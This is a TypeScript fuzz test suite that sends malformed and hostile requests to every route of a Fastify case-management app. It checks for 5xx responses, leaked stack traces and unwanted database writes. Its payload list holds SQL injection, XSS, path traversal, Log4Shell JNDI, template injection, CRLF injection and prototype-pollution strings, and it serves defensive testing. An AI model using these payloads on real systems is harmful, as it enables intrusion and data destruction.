// Suite 2 of issue 10: every route the app registers, fed malformed, oversized, wrong-typed and
// hostile input by a caller allowed on it (fast-check arbitraries built from each route's JSON
// schema, mixed with SQL, HTML, path-traversal and control-character payloads). No answer may be
// a 5xx or carry a stack trace or a server path; a write route whose every request was refused
// leaves the database as it was (deliberate audit rows of refusals aside). At least 10,000
// requests (YIMEN_FUZZ_REQUESTS to change).
import type { FastifyInstance, InjectOptions } from 'fastify';
import fc from 'fast-check';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { takeSnapshot } from '../helpers/db-snapshot.js';
import { createTestApp, type Client, type TestApp } from '../helpers/test-app.js';
import {
  buildWorld,
  collectRoutes,
  isStaticRoute,
  requestFor,
  sampleOf,
  staffClient,
  type RouteInfo,
  type Schema,
  type World,
} from './harness.js';
import { REGISTRY, type Rule } from './route-registry.js';

// 10,500 on PGlite (CI's first lane); PostgreSQL's lane sends fewer, the same routes and handlers
// on the other engine
const TARGET = Number(process.env.YIMEN_FUZZ_REQUESTS ?? (process.env.DATABASE_URL ? 3_000 : 10_500));

let t: TestApp;
let app: FastifyInstance;
let routes: RouteInfo[];
let w: World;
const clients = new Map<string, Client>();

const ACCOUNTS = [
  'clerk.shentou',
  'dispatcher.shentou',
  'grid.shentou',
  'security.shentou',
  'leader.shentou',
  'supervisor.shentou',
  'mediator.shentou',
  'dept.shentou',
  'sysadmin',
  'secadmin',
  'auditor',
  // the world's foreign case is registered by 晏北街道's window
  'clerk.yanbei',
];
const ROLE_ACCOUNT: Record<string, string> = {
  clerk: 'clerk.shentou',
  dispatcher: 'dispatcher.shentou',
  grid_worker: 'grid.shentou',
  security_member: 'security.shentou',
  leader: 'leader.shentou',
  supervisor: 'supervisor.shentou',
  mediator: 'mediator.shentou',
  department_staff: 'dept.shentou',
  sys_admin: 'sysadmin',
  security_admin: 'secadmin',
  audit_admin: 'auditor',
};

beforeAll(async () => {
  t = await createTestApp({
    config: { loginRatePerMinute: 1_000_000, open311PostPerMinute: 1_000_000 } as never,
  });
  for (const [i, u] of ACCOUNTS.entries()) clients.set(u, await staffClient(t, u, 300 + i));
  clients.set('resident', await t.resident('13812345678'));
  clients.set('anonymous', t.anonymous());
  w = await buildWorld(t, (n) => clients.get(n)!);
  ({ app, routes } = await collectRoutes(t));
  routes = routes.filter((r) => !isStaticRoute(r));
}, 300_000);
afterAll(async () => {
  await app?.close();
  await t?.close();
});

/** A caller the registry allows on the route, so the input reaches the handler. */
function callerFor(rule: Rule | undefined): Client {
  if (!rule) return clients.get('clerk.shentou')!;
  switch (rule.kind) {
    case 'public':
    case 'apiKey':
      return clients.get('anonymous')!;
    case 'resident':
      return clients.get('resident')!;
    case 'roles':
      return clients.get(ROLE_ACCOUNT[rule.roles[0]!] ?? 'clerk.shentou')!;
    case 'case':
      return clients.get(
        rule.action === 'instruct'
          ? 'leader.shentou'
          : rule.action === 'supervise'
            ? 'supervisor.shentou'
            : 'dispatcher.shentou',
      )!;
    default:
      return clients.get('clerk.shentou')!;
  }
}

// ---------------------------------------------------------------------------------------------
// Hostile input

const PAYLOADS = [
  "' OR '1'='1",
  '1; DROP TABLE cases; --',
  "'); DELETE FROM audit_log; --",
  '" OR ""="',
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  'javascript:alert(1)',
  '../../../../etc/passwd',
  '..\\..\\..\\windows\\win.ini',
  '%2e%2e%2f%2e%2e%2fetc%2fpasswd',
  '\u0000',
  'a\u0000b',
  '\r\nSet-Cookie: x=1',
  '${jndi:ldap://x/a}',
  '{{7*7}}',
  '__proto__',
  'constructor',
  '\u202e\u0644\u0627',
  '🀄️👨‍👩‍👧‍👦',
  '＇ＯＲ１＝１',
  '9'.repeat(40),
  '-1',
  'NaN',
  'null',
  'true',
  '1e309',
  '0x7fffffff',
  '2026-02-30T25:61:61Z',
  '00000000-0000-0000-0000-000000000000',
  'ffffffff-ffff-ffff-ffff-ffffffffffff',
];

const hostileString = fc.oneof(
  { weight: 4, arbitrary: fc.constantFrom(...PAYLOADS) },
  { weight: 2, arbitrary: fc.string({ maxLength: 40 }) },
  { weight: 2, arbitrary: fc.string({ unit: 'grapheme', maxLength: 20 }) },
  { weight: 1, arbitrary: fc.constantFrom('x'.repeat(5_000), '字'.repeat(70_000)) },
);
const hostileValue: fc.Arbitrary<unknown> = fc.oneof(
  { weight: 5, arbitrary: hostileString },
  {
    weight: 2,
    arbitrary: fc.oneof(
      fc.integer(),
      fc.constantFrom(-1, 0, 2 ** 31, 2 ** 53 + 1, -(2 ** 63), 1e308, 0.1),
      fc.double({ noNaN: true, noDefaultInfinity: true }),
    ),
  },
  { weight: 1, arbitrary: fc.boolean() },
  { weight: 1, arbitrary: fc.constant(null) },
  { weight: 1, arbitrary: fc.array(fc.oneof(fc.string({ maxLength: 5 }), fc.integer()), { maxLength: 5 }) },
  { weight: 1, arbitrary: fc.constantFrom({}, { $ne: '' }, { __proto__: { admin: true } }, [[[[[]]]]]) },
  { weight: 1, arbitrary: fc.constant(Array.from({ length: 5_000 }, (_, i) => i)) },
);

/** Keys of a schema's properties (to aim mutations at real fields). */
const keysOf = (s: Schema | undefined): string[] => Object.keys(s?.properties ?? {});

/** A request for the route with one kind of damage (or several), from its valid sample. */
function hostileRequest(r: RouteInfo): fc.Arbitrary<InjectOptions> {
  const base = requestFor(r, w, w.cases.in_progress.id);
  const bodyKeys = keysOf(r.schema.body);
  const queryKeys = keysOf(r.schema.querystring);
  const paramNames = [...r.url.matchAll(/:(\w+)/g)].map((m) => m[1]!);
  const sample = (sampleOf(r.schema.body) ?? {}) as Record<string, unknown>;
  const withBody = r.method !== 'GET' && r.method !== 'DELETE';

  const bodyArb: fc.Arbitrary<{ payload: unknown; headers?: Record<string, string> }> = fc.oneof(
    // one field replaced by hostile input (or a field the schema does not know)
    fc
      .tuple(
        fc.constantFrom(...(bodyKeys.length ? bodyKeys : ['x']), '__proto__', 'unknownField'),
        hostileValue,
      )
      .map(([k, v]) => ({ payload: { ...sample, [k]: v } })),
    // a required field left out
    fc.constantFrom(...(bodyKeys.length ? bodyKeys : ['x'])).map((k) => {
      const copy = { ...sample };
      delete copy[k];
      return { payload: copy };
    }),
    // not an object at all
    fc.jsonValue({ maxDepth: 3 }).map((v) => ({ payload: v })),
    // broken JSON, wrong content types
    fc.constantFrom(
      { payload: '{"a":', headers: { 'content-type': 'application/json' } },
      { payload: '\u0000\u0001', headers: { 'content-type': 'application/json' } },
      { payload: 'a=1&b=2', headers: { 'content-type': 'application/x-www-form-urlencoded' } },
      { payload: '<x/>', headers: { 'content-type': 'application/xml' } },
      { payload: 'plain', headers: { 'content-type': 'text/plain' } },
      { payload: '--b\r\n\r\n', headers: { 'content-type': 'multipart/form-data; boundary=b' } },
      { payload: JSON.stringify({ deep: nest(2_000) }), headers: { 'content-type': 'application/json' } },
      { payload: 'x'.repeat(1_100_000), headers: { 'content-type': 'application/json' } },
    ),
  );
  const queryArb = fc
    .tuple(
      fc.constantFrom(...(queryKeys.length ? queryKeys : ['q']), 'unknown', 'limit', 'cursor'),
      hostileString,
    )
    .map(([k, v]) => `${k}=${encodeURIComponent(v)}&${k}=${encodeURIComponent(v)}`);
  const paramArb = fc
    .constantFrom(...(paramNames.length ? paramNames : ['-']))
    .chain((name) => hostileString.map((v) => ({ name, value: v })));

  return fc
    .record({
      damage: fc.constantFrom(...(withBody ? ['body', 'body', 'query', 'param'] : ['query', 'param'])),
      body: bodyArb,
      query: queryArb,
      param: paramArb,
    })
    .map(({ damage, body, query, param }) => {
      const opts: InjectOptions = { ...base, headers: { ...(base.headers ?? {}) } };
      if (damage === 'body') {
        opts.payload = body.payload as InjectOptions['payload'];
        opts.headers = { ...(body.headers ?? { 'content-type': 'application/json' }) };
      } else if (damage === 'query') {
        opts.url = `${String(base.url).split('?')[0]}?${query}`;
      } else if (paramNames.includes(param.name)) {
        const encoded = encodeURIComponent(param.value);
        opts.url = fillWith(r.url, param.name, encoded, String(base.url));
      }
      return opts;
    });
}

function nest(depth: number): unknown {
  let v: unknown = 1;
  for (let i = 0; i < depth; i++) v = { a: v };
  return v;
}

/** The filled url of `base` with one path parameter replaced. */
function fillWith(pattern: string, name: string, value: string, base: string): string {
  const names = [...pattern.matchAll(/:(\w+)/g)].map((m) => m[1]!);
  const re = new RegExp(
    '^' + pattern.replace(/[.*+?^${}()|[\]\\]/g, '\\$&').replace(/:\w+/g, '([^/?]+)') + '(\\?.*)?$',
  );
  const m = re.exec(base);
  if (!m) return base;
  let i = 0;
  return pattern.replace(/:(\w+)/g, () => (names[i] === name ? (i++, value) : m[++i]!));
}

// what a body must never show: a stack frame, a source path, a driver's or engine's internals
const LEAK =
  /\bat [\w.<>]+ \(|node_modules|\/work\/|\/src\/server|\.ts:\d+|PGlite|pg_catalog|syntax error at|relation "/;

/** Tables a refused request may write on purpose: the audit of refusals, failed log-in counters. */
function allowedWrites(r: RouteInfo): (table: string) => boolean {
  return (table) =>
    table.startsWith('audit_log') ||
    (r.key === 'POST /api/auth/login' && table === 'users') ||
    (r.url.startsWith('/api/resident/') && table === 'resident_otps');
}

describe('fuzz: every route with hostile input', () => {
  it('refuses a path number that overflows to Infinity (400, found by this suite: it was a 500)', async () => {
    const res = await clients.get('sysadmin')!.get('/api/calendar/years/1e309');
    expect(res.statusCode, res.body).toBe(400);
    expect(res.json().error.code).toBe('validation');
  });

  it(`answers ${TARGET}+ malformed requests with 4xx (never 5xx, never a stack trace), writing nothing`, async () => {
    const perRoute = Math.ceil(TARGET / routes.length);
    const problems: string[] = [];
    let sent = 0;
    let fives = 0;
    const byStatus = new Map<number, number>();
    let writeRoutesChecked = 0;
    for (const r of routes) {
      if (r.key === 'GET /api/events/stream') continue; // a stream never ends; its refusals are in the matrix
      const client = callerFor(REGISTRY[r.key]);
      const isWrite = r.method !== 'GET';
      const snap = isWrite ? await takeSnapshot(t.db) : null;
      let accepted = false;
      await fc.assert(
        fc.asyncProperty(hostileRequest(r), async (opts) => {
          const res = await app.inject({
            ...opts,
            headers: {
              ...(opts.headers ?? {}),
              ...(client.cookie ? { cookie: client.cookie, 'x-csrf-token': client.csrf } : {}),
            },
          });
          sent++;
          byStatus.set(res.statusCode, (byStatus.get(res.statusCode) ?? 0) + 1);
          if (res.statusCode < 400) accepted = true;
          if (res.statusCode >= 500) {
            fives++;
            problems.push(
              `${r.key} ${String(opts.url).slice(0, 120)} → ${res.statusCode} ${res.body.slice(0, 120)}`,
            );
          }
          if (LEAK.test(res.body))
            problems.push(`${r.key} ${String(opts.url).slice(0, 120)} leaks: ${res.body.slice(0, 200)}`);
        }),
        { numRuns: perRoute, seed: 1127 + sent, endOnFailure: true },
      );
      if (snap && !accepted) {
        writeRoutesChecked++;
        const changed = Object.keys(await snap.changes()).filter((table) => !allowedWrites(r)(table));
        if (changed.length) problems.push(`${r.key}: refused requests changed ${changed.join(', ')}`);
      }
    }
    console.info(
      `fuzz: ${sent} requests over ${routes.length} routes, ${fives} answered 5xx; ` +
        `statuses ${JSON.stringify(Object.fromEntries([...byStatus].sort((a, b) => a[0] - b[0])))}; ` +
        `${writeRoutesChecked} write routes checked unchanged after refusals`,
    );
    expect(problems).toEqual([]);
    expect(sent).toBeGreaterThanOrEqual(TARGET - routes.length);
  }, 900_000);
});
